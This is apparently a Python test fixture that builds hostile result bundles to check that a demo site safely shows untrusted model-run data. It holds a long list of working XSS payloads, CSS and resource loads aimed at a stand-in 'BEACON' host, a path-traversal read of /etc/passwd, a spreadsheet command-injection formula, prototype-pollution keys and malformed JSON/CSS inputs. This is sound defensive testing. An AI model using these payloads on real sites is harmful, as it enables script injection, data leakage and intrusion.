"""Hostile bundles, each with every digest and twin in order, so that all of it is shown."""

from __future__ import annotations

import copy
import json
import re
import shutil
from typing import TYPE_CHECKING, Any

import demo_site

from digit_classifier.artifacts import build_dataset, build_index, build_index_entry
from digit_classifier.store.bundle import seal_files
from digit_classifier.store.json import encode, twin
from tiny_runs import CREATED, RUN_ID, dataset, payloads

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

JS = "window.hacked=1"
BEACON = "BEACON"  # replaced by the address of a server that must get no request
PAYLOADS = [
    f"<script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"<script src=//{BEACON}/a.js></script>",
    f"<img src=x onerror={JS}>",
    f'"><img src=x onerror="{JS}">',
    f"'><img src=x onerror='{JS}'>",
    f"<img src=//{BEACON}/b.png>",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<svg><use href=//{BEACON}/c.svg#x></svg>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<iframe src=javascript:parent.hacked=1></iframe>",
    f"<iframe src=//{BEACON}/d.html></iframe>",
    f"<object data=//{BEACON}/e.swf></object>",
    f"<embed src=//{BEACON}/f.swf>",
    f"<link rel=stylesheet href=//{BEACON}/g.css>",
    f"<link rel=prefetch href=//{BEACON}/h>",
    f"<style>@import '//{BEACON}/i.css';</style>",
    f"</style><style>*{{background:url(//{BEACON}/j)}}",
    f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"--><script>{JS}</script>",
    f"<!--<script>{JS}</script>",
    f"]]><script>{JS}</script>",
    f"<base href=//{BEACON}/>",
    f"<meta http-equiv=refresh content='0;url=//{BEACON}/k'>",
    f"<form action=//{BEACON}/l><input autofocus onfocus={JS}></form>",
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=//{BEACON}/m.ogg autoplay>",
    f"<body onload={JS}>",
    f"<a href=javascript:{JS}>click</a>",
    f"<a href=//{BEACON}/n ping=//{BEACON}/o>click</a>",
    f"<math href=javascript:{JS}>click",
    f"<template><script>{JS}</script></template>",
    f"<noscript><img src=x onerror={JS}></noscript>",
    f"<marquee onstart={JS}>",
    "<dialog open><script>alert(1)</script></dialog>",
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"data:text/html,<script>{JS}</script>",
    f"vbscript:{JS}",
    f"//{BEACON}/p",
    f"http://{BEACON}/q",
    "file:///etc/passwd",
    "\\\\host\\share\\x",
    f"url(//{BEACON}/r)",
    f"expression({JS})",
    f"red;background:url(//{BEACON}/s)",
    f"{{{{constructor.constructor('{JS}')()}}}}",
    f"${{{JS}}}",
    f"`;{JS};`",
    f"');{JS};('",
    f'\\");{JS};("',
    f"%3Cscript%3E{JS}%3C/script%3E",
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068 isolates \u2069",
    "\u200b\u200c\u200d\ufeff nothing",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "two\nlines\r\nand\u2028more\u2029\x00\x08\x7f",
    "Z\u0351\u036b\u0343" + "\u0300" * 60,
    "\ud800 half \udfff",
    "=cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "x" * 199,
]


def line(payload: str, limit: int) -> str:
    """The text as the contract allows it: one line, at most `limit` characters, no half ones."""
    shown = re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]", " ", payload)
    return shown[:limit]


def text_fields(payload: str, every: list[str]) -> dict[str, dict[str, Any]]:
    """The files of a run with this text in every field that takes any text, and all texts where there may be many."""
    files = {name: copy.deepcopy(value) for name, value in payloads(RUN_ID).items()} | {
        "dataset": build_dataset(dataset())
    }
    many = {f"key_{number}": line(text, 1000) for number, text in enumerate(every)}
    names = [line(payload, 40), "dog"]
    prose = {"title": line(payload, 200), "source": line(payload, 300), "note": line(payload, 300)}
    summary, metrics = files["run_summary.json"], files["metrics.json"]
    summary |= {"label": line(payload, 80), "command": line(payload, 4000)}
    summary |= {"config": many, "config_origin": many, "environment": many}
    summary["dataset"] |= {**prose, "class_names": names}
    metrics["labels"] = names
    report = metrics["classification_report"]
    report |= {names[0]: report.pop("a"), "dog": report.pop("b")}
    files["dataset"] |= {"class_names": names}
    return files


def outside(payload: str) -> dict[str, Callable[[dict[str, Any]], object]]:
    """Changes that put this text where the contract takes no such text; the page refuses the file, in words."""
    return {
        "summary-label": lambda files: files["run_summary.json"].update(label=payload + "\n"),
        "summary-long": lambda files: files["run_summary.json"].update(label=payload + "x" * 80),
        "summary-half": lambda files: files["run_summary.json"].update(command=payload + "\ud800"),
        "summary-key": lambda files: files["run_summary.json"]["config"].update({payload: 1}),
        "summary-model": lambda files: files["run_summary.json"]["model"].update(name=payload),
        "summary-dataset": lambda files: files["run_summary.json"]["dataset"].update(name=payload),
        "summary-file": lambda files: files["run_summary.json"]["dataset"].update(file=payload),
        "metrics-class": lambda files: files["metrics.json"].update(labels=[payload + "x" * 40, "dog"]),
        "metrics-method": lambda files: files["metrics.json"]["accuracy_interval"].update(method=payload),
    }


def write(root: Path, files: dict[str, Any], change: Callable[[dict[str, bytes]], object] = lambda _: None) -> None:
    """Publish such files as their author would, without any check of ours; `change` may spoil them once more."""
    contents = {name: encode(value) for name, value in files.items() if name != "dataset"}
    contents["sample_gallery.png"] = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>".encode()
    digest = files["run_summary.json"]["results_digest"]
    sealed, _ = seal_files(contents, run_id=RUN_ID, created=CREATED, results_digest=digest)
    entry = build_index_entry(files["run_summary.json"], files["metrics.json"], "0" * 64)
    index = encode(build_index(1, RUN_ID, [entry]))
    data = encode(files["dataset"])
    name = files["run_summary.json"]["dataset"]["file"]
    tree = {f"{RUN_ID}/{each}": text for each, text in sealed.items()}
    tree |= {"index.json": index, "index.css": twin(index)}
    tree |= {f"datasets/{name}": data, f"datasets/{name.replace('.json', '.css')}": twin(data)}
    change(tree)
    for path, text in tree.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(text)


def replaced(path: str, text: bytes) -> Callable[[dict[str, bytes]], object]:
    """One file says this instead; a JSON file's twin says the same."""

    def change(tree: dict[str, bytes]) -> None:
        tree[path] = text
        if path == "index.json":
            tree["index.css"] = twin(text)
        elif path.startswith(RUN_ID) and path.endswith(".json"):
            content = {"manifest": json.loads(tree[f"{RUN_ID}/manifest.json"]), "files": {}}
            for each in content["manifest"]["files"]:
                if each.endswith(".json"):
                    content["files"][each] = tree[f"{RUN_ID}/{each}"].decode("utf-8", "replace")
            tree[f"{RUN_ID}/bundle.css"] = twin(json.dumps(content).encode())

    return change


def shapes(beacon: str) -> dict[str, Callable[[dict[str, bytes]], object]]:
    """Roots that are spoilt in their form, not in their words."""
    out = f"url(http://{beacon}/"
    sheets = {
        "ends": f':root{{--n:"1";--b0:"QUFB"}}</style><script>{JS}</script>',
        "escapes": f':root{{--n:"1";--b0:"\\"}};background:{out}a);x:"QUFB"}}',
        "loads": f':root{{--n:"1";--b0:"QUFB";background:{out}b)}}html,body{{background:{out}c);content:{out}d)}}',
        "imports": f'@import "http://{beacon}/e.css";@import {out}f.css);:root{{--n:"1";--b0:"QUFB"}}',
        "fonts": f'@font-face{{font-family:x;src:{out}g.woff)}}:root{{font-family:x;--n:"1";--b0:"QUFB"}}',
        "values": f":root{{--n:1;--b0:{out}h)}}",
        "images": f':root{{--n:"1";--b0:"QUFB";cursor:{out}i),auto;list-style-image:{out}j);border-image:{out}k)}}',
        "counts": ':root{--n:"1152921504606846976";--b0:"QUFB"}',
        "half": ':root{--n:"999";--b0:"QUFB"}',
        "html": f"<html><script>{JS}</script>",
        "empty": "",
        "another": twin(b'{"manifest":{},"files":{}}').decode(),
    }
    summary = f"{RUN_ID}/run_summary.json"
    texts = {
        "deep": b'{"schema_version":1,"x":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "open": b"[" * 100_000,
        "nan": b'{"schema_version":1,"accuracy":NaN}',
        "large": b'{"schema_version":1,"generation":1152921504606846976,"latest":null,"runs":[]}',
        "proto": b'{"schema_version":1,"__proto__":{"hacked":1},"constructor":{"prototype":{"hacked":1}}}',
        "twice": b'{"schema_version":1,"schema_version":1,"run_id":null,"run_id":3}',
        "latin": b'{"schema_version":1,"label":"\xff"}',
        "huge": b'{"schema_version":1,"x":"' + b"x" * 9_000_000 + b'"}',
        "page": f"<html><script>{JS}</script>".encode(),
        "null": b"null",
    }
    found = {f"sheet-{name}": replaced(f"{RUN_ID}/bundle.css", text.encode()) for name, text in sheets.items()}
    found |= {f"index-{name}": replaced("index.css", text.encode()) for name, text in list(sheets.items())[:6]}
    for place, path in (("summary", summary), ("metrics", f"{RUN_ID}/metrics.json"), ("list", "index.json")):
        found |= {f"{place}-{name}": replaced(path, text) for name, text in texts.items()}
    return found


def build(site: Path, beacon: str) -> tuple[list[str], list[str]]:
    """The names of the roots with hostile words, and of those with a hostile form."""
    site.mkdir()
    for name in demo_site.PAGE:
        shutil.copy(demo_site.DEMO / name, site)
    every = [text.replace(BEACON, beacon) for text in PAYLOADS]
    for number, text in enumerate(every):
        write(site / f"words-{number}", text_fields(text, every))
    found = shapes(beacon)
    for name, change in found.items():
        write(site / name, text_fields("a label", []), change)
    misplaced = outside(every[0])
    for name, misplace in misplaced.items():
        files = text_fields("a label", [])
        misplace(files)
        write(site / f"{name}-words", files)
    return every, [*found, *(f"{name}-words" for name in misplaced)]
